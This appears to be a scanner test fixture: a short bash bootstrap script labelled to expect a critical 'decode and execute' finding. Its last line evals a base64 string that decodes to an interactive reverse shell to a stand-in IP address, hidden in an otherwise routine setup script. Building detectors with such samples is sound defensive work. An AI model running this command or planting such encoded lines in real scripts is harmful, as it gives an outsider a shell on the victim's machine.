# expect: shell.decode_exec critical
# path: scripts/bootstrap.sh
#!/usr/bin/env bash
set -euo pipefail
cd "$(dirname "$0")/.."
eval "$(echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuMjA0LzQ0NDQgMD4mMQ== | base64 -d)"
